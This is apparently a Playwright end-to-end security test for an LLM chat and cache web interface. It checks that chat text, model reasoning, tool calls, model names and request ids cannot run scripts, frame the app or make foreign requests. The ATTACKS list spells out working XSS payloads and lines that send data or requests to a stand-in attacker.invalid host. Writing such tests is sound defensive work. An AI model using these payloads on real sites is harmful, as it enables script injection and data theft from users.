import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';

import type { Page } from 'playwright-core';
import t from 'tap';

import { startRadish } from '../e2e/radish-process.js';
import { openTab, skip, startBrowser } from './tab.js';

/** Each would say so by `window.hurt`, a dialog, or a request to elsewhere. */
const ATTACKS = [
  '<script>window.hurt = 1</script>',
  '<img src=x onerror="window.hurt = 1">',
  '<svg><script>window.hurt=1</script></svg><svg onload="window.hurt=1">',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hurt=1&gt;">',
  '[x](javascript:window.hurt=1) <javascript:window.hurt=1> [y](data:text/html,<script>hurt=1</script>)',
  '![pixel](http://attacker.invalid/pixel.png?secret)',
  '<form action="http://attacker.invalid/"><button>x</button></form><base href="http://attacker.invalid/">',
  '<style>@import "http://attacker.invalid/x.css";</style><link rel=stylesheet href="http://attacker.invalid/x.css">',
  '<a href="http://attacker.invalid/" ping="http://attacker.invalid/p" target=_top>x</a>',
  '```"><img src=x onerror=window.hurt=1>\ncode\n```',
  '# <a name=app id=app>x</a> <input id=composer name=composer>',
  '[ref]: javascript:window.hurt=1\n[a][ref]',
];
const HOSTILE = ATTACKS.join('\n\n');
const NAME = '<img src=x onerror=window.hurt=1>';

/** Asks for every address that the page asks anybody else. */
function watchRequests(page: Page, url: string): string[] {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const address = request.url();
    if (!address.startsWith(url) && !/^(data|blob):/.test(address)) foreign.push(address);
  });
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return foreign;
}

function chunk(delta: object): string {
  return `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
}

t.test('text, thoughts, calls, results and names of attackers do nothing', { skip }, async (t) => {
  const radish = await startRadish(['--served-model-name', NAME]);
  t.teardown(() => radish.stop());
  const browser = await startBrowser();
  t.teardown(() => browser.close());
  const { page, faults } = await openTab(browser, radish.url);
  const foreign = watchRequests(page, radish.url);
  await page.getByText(NAME).first().waitFor();
  await page.route('**/v1/chat/completions', async (route) => {
    const call = { index: 0, id: NAME, function: { name: NAME, arguments: HOSTILE } };
    const parts = [{ reasoning_content: HOSTILE }, { content: HOSTILE }, { tool_calls: [call] }];
    const body = `${parts.map(chunk).join('')}data: [DONE]\n\n`;
    await route.fulfill({ status: 200, contentType: 'text/event-stream', body });
  });
  await page.getByRole('textbox', { name: 'Message' }).fill(HOSTILE);
  await page.keyboard.press('Enter');
  await page.locator('.message.assistant .stats').waitFor();
  await page.getByText('Thoughts').click();
  await page.getByLabel('What <img').fill(HOSTILE);
  await page.getByRole('button', { name: 'Send the answer' }).click();
  await page.locator('.message.assistant').nth(1).locator('.stats').waitFor();
  for (const link of await page.locator('.markdown a').all()) {
    t.match(await link.getAttribute('href'), /^(https?:|mailto:)/);
    t.match(await link.getAttribute('rel'), /noopener/);
    t.equal(await link.getAttribute('ping'), null);
  }
  await page.waitForTimeout(300);
  const found =
    '.message :is(script, img, iframe, form:not(.calls), style, link, base, object, input)';
  t.equal(await page.locator(found).count(), 0);
  t.equal(await page.evaluate('window.hurt'), undefined);
  t.equal(await page.locator('#app').count(), 1);
  t.same(foreign, []);
  t.same(faults, []);
});

t.test(
  'prompts of attackers do nothing in the tree, and rids in the table',
  { skip },
  async (t) => {
    const radish = await startRadish(['--max-total-tokens', '4096']);
    t.teardown(() => radish.stop());
    const browser = await startBrowser();
    t.teardown(() => browser.close());
    const { page, faults } = await openTab(browser, `${radish.url}/#/cache`);
    const foreign = watchRequests(page, radish.url);
    await page.locator('.icicle').waitFor();
    for (const text of [HOSTILE, NAME.repeat(20)]) {
      const body = { text, rid: NAME, sampling_params: { max_new_tokens: 4 } };
      const answer = await fetch(`${radish.url}/generate`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      t.equal(answer.status, 200);
    }
    await page.getByText('<img src=x').first().waitFor();
    await page.goto(`${radish.url}/#/engine`);
    await page.getByRole('heading', { name: 'Just finished' }).waitFor();
    t.equal(await page.evaluate('window.hurt'), undefined);
    t.equal(await page.locator('main img').count(), 0);
    t.same(foreign, []);
    t.same(faults, []);
  },
);

t.test('no page of another origin frames it, and its policy holds', { skip }, async (t) => {
  const radish = await startRadish();
  t.teardown(() => radish.stop());
  const browser = await startBrowser();
  t.teardown(() => browser.close());
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe src="${radish.url}/"></iframe>`);
  }).listen(0, '127.0.0.1');
  t.teardown(() => site.close());
  await once(site, 'listening');
  const { port } = site.address() as AddressInfo;
  const outside = await openTab(browser, `http://127.0.0.1:${port}/`);
  await outside.page.waitForTimeout(500);
  t.equal(await outside.page.frames()[1]?.locator('#app').count(), 0);

  const { page } = await openTab(browser, radish.url);
  const refused = await page.evaluate<string[]>(`new Promise((resolve) => {
    const refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
    const script = document.createElement('div');
    try { script.innerHTML = '<b>x</b>'; } catch { refused.push('innerHTML'); }
    try { script.setAttribute('onclick', 'window.hurt = 1'); } catch { refused.push('onclick'); }
    document.body.append(script);
    script.click();
    fetch('http://attacker.invalid/').catch(() => 0);
    const image = new Image();
    image.src = 'http://attacker.invalid/x.png';
    setTimeout(() => resolve(refused), 500);
  })`);
  t.ok(refused.includes('innerHTML'), 'trusted types');
  t.ok(refused.includes('onclick'), 'inline handlers');
  t.ok(refused.includes('connect-src'), 'requests to elsewhere');
  t.ok(refused.includes('img-src'), 'pictures from elsewhere');
  t.equal(await page.evaluate('window.hurt'), undefined);
});
